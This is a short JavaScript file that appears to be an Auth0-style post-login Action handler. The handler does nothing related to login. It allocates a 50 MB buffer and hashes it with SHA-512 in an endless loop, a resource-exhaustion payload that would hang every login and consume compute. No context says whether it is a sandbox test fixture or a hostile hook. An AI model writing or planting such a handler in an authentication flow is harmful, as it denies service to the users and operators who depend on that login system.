exports.onExecutePostLogin = async function (event, api) {
  const c = require("crypto"); const b = Buffer.alloc(5e7); for (;;) c.createHash("sha512").update(b).digest();
};
